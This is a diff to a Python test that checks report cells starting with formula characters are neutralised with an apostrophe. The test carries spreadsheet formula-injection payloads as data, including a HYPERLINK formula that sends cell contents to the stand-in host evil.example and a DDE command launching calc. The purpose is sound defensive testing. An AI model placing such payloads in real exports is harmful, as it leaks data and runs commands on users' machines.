@@ -307,7 +307,7 @@ def test_report_cells_a_spreadsheet_would_evaluate_are_neutralised(crontab, s3_b
     noon = dt.datetime.combine(today - dt.timedelta(days=1), dt.time(12), dt.timezone.utc)
     # (a tab or CR never reaches the report: the batch check refuses control characters)
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)",
-               "=cmd|' /C calc'!A0"]
+               "=cmd|' /C calc'!A0", " =HYPERLINK(\"x\")", "  @SUM(A1)", "'=1+1", "'quoted"]
     events = [{"debug_file": name, "debug_id": "A" * 33, "code_file": name, "code_id": "C0DE",
                "seen_at": noon.isoformat(), "count": n}
               for n, name in enumerate(hostile, 2)]
@@ -320,4 +320,7 @@ def test_report_cells_a_spreadsheet_would_evaluate_are_neutralised(crontab, s3_b
     for n, name in enumerate(hostile, 2):
         assert by_count[n][0] == by_count[n][2] == "'" + name, by_count[n]
     assert by_count[1][0] == "plain-name.pdb"
-    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+    assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for r in rows for cell in r)
+    # the reader's rule is exact: a cell beginning with ' had one added (security review I-4)
+    assert {r[0][1:] for r in rows if r[0].startswith("'")} == set(hostile)
